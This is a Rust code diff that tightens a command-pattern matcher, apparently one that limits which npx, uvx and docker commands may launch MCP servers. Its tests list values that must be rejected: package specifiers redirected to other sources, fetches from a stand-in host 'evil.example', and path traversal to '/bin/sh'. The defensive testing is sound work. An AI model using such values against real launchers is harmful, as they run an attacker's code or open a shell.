@@ -2,12 +2,13 @@
 
 use std::str::FromStr;
 
-use super::glob;
+use super::{glob, package};
 
 /// Word by word: the first is the command, each other an argument. Within a word `*` stands for letters,
-/// digits and what no shell minds, never for a slash; a `*` alone is any one argument of such characters
-/// and slashes. None begins with a dash, so that no option slips in. `**` at the end is any arguments at
-/// all, and alone any command.
+/// digits, dots, dashes and underscores; a `*` alone is any one argument that may be a path and no URL. None
+/// begins with a dash, so that no option slips in. Where the command fetches packages, `*` is a name of the
+/// registry and nothing else that could stand there ([`package`]). `**` at the end is any arguments at all,
+/// and alone any command.
 #[derive(Clone, Debug)]
 pub struct CommandPattern {
     words: Vec<String>,
@@ -16,7 +17,7 @@ pub struct CommandPattern {
 
 #[derive(Debug, thiserror::Error)]
 pub enum NoCommand {
-    #[error("a command and its arguments, such as \"npx -y @example/*\"")]
+    #[error("a command and its arguments, such as \"npx -y @example/files@1.2.3\"")]
     Empty,
     #[error(
         "a command is a name or an absolute path: another would depend on the directory that a client names"
@@ -35,14 +36,20 @@ impl CommandPattern {
         let Some((first, others)) = self.words.split_first() else {
             return self.open;
         };
+        let mut packages = package::Words::of(command);
         enough
             && word(first, command, is_plain)
             && others.iter().zip(args).all(|(pattern, arg)| {
-                word(
-                    pattern,
-                    arg,
-                    if pattern == "*" { is_path } else { is_plain },
-                )
+                let package = packages.as_mut().and_then(|words| words.package(pattern));
+                match package.filter(|_| pattern.contains('*')) {
+                    Some(at) => {
+                        let (option, name) = pattern.split_at(at);
+                        arg.strip_prefix(option)
+                            .is_some_and(|arg| package::fits(name, arg))
+                    }
+                    None if pattern == "*" => word(pattern, arg, is_path),
+                    None => word(pattern, arg, is_plain),
+                }
             })
     }
 }
@@ -54,11 +61,11 @@ fn word(pattern: &str, text: &str, allowed: fn(char) -> bool) -> bool {
 }
 
 fn is_plain(c: char) -> bool {
-    c.is_alphanumeric() || "._-:@=+,%".contains(c)
+    c.is_alphanumeric() || "._-".contains(c)
 }
 
 fn is_path(c: char) -> bool {
-    is_plain(c) || c == '/'
+    is_plain(c) || "/@=+,%".contains(c)
 }
 
 impl FromStr for CommandPattern {
@@ -99,6 +106,19 @@ mod tests {
             ("/usr/bin/mcp-files", &["/usr/bin/mcp-files"]),
             ("/opt/mcp/*", &["/opt/mcp/files"]),
             ("npx -y @example/*", &["npx", "-y", "@example/files@1.2.3"]),
+            (
+                "npx -y @example/* *",
+                &["npx", "-y", "@example/x", "/srv/a=b"],
+            ),
+            (
+                "npx --package=@example/* run",
+                &["npx", "--package=@example/x@1.2.3", "run"],
+            ),
+            ("uvx mcp-*", &["uvx", "mcp-git==1.0"]),
+            (
+                "docker run -i mcp/*:*",
+                &["docker", "run", "-i", "mcp/git:1.0"],
+            ),
             ("mcp-files *", &["mcp-files", "/srv/data"]),
             (
                 "mcp-files --root=/srv/*",
@@ -132,6 +152,35 @@ mod tests {
             ("npx -y @example/*", &["npx", "-y", "@example/x\nevil"]),
             ("npx -y @example/*", &["npx", "-y", "@example/x\0"]),
             ("npx -y @example/*", &["npx", "-y", "@example/x", ""]),
+            ("npx -y @example/*", &["npx", "-y", "@example/x@npm:evil"]),
+            ("npx -y @example/*", &["npx", "-y", "@example/x@file:."]),
+            ("npx -y @example/*", &["/bin/npx", "-y", "@example/x"]),
+            ("* -y @example/*", &["npx", "-y", "@example/x@npm:evil"]),
+            (
+                "/usr/bin/* -y @example/*",
+                &["/usr/bin/npx", "-y", "@example/x@file:."],
+            ),
+            ("npx -y *", &["npx", "-y", "./evil"]),
+            ("npx -y *", &["npx", "-y", "evil/repository"]),
+            (
+                "npx --package=@example/* run",
+                &["npx", "--package=@example/x@npm:evil", "run"],
+            ),
+            ("npx -p @example/* *", &["npx", "-p", "@example/x", "a/b"]),
+            (
+                "npx --registry https://r.example *",
+                &["npx", "--registry", "https://r.example", "evil/x"],
+            ),
+            ("uvx *", &["uvx", "git+https://evil.example/x"]),
+            ("uvx mcp-*", &["uvx", "mcp-x @ https://evil.example/x.whl"]),
+            ("docker run -i mcp/*", &["docker", "run", "-i", "mcp/x:1"]),
+            (
+                "docker run -i mcp/*",
+                &["docker", "run", "-i", "mcp/x@sha256:00"],
+            ),
+            ("mcp-proxy *", &["mcp-proxy", "https://evil.example"]),
+            ("mcp-proxy *", &["mcp-proxy", "git@evil.example:x"]),
+            ("mcp-files --root=/srv/*", &["mcp-files", "--root=/srv/a,b"]),
             ("/opt/mcp/*", &["/opt/mcp/../../bin/sh"]),
             ("/opt/mcp/*", &["/opt/mcp/.."]),
             ("/opt/mcp/*", &["/opt/mcp/a/b"]),
